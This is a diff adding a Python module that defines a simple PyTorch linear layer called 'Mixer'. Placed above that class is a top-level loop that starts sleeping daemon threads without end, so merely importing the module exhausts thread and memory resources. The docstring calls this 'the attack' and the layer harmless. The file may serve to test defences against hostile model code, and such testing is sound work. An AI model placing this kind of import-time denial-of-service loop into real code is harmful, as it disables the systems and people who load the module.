@@ -1,0 +1,22 @@
+"""Starts threads without end."""
+
+import threading
+import time
+
+import torch
+from torch import nn
+
+while True:
+    threading.Thread(target=time.sleep, args=(600,), daemon=True).start()
+
+
+class Mixer(nn.Module):
+    """A harmless layer, for what comes after the attack."""
+
+    def __init__(self, hidden_size: int) -> None:
+        super().__init__()
+        self.inner = nn.Linear(hidden_size, hidden_size)
+
+    def forward(self, hidden_states: torch.Tensor) -> torch.Tensor:
+        """Map each position by itself."""
+        return self.inner(hidden_states)
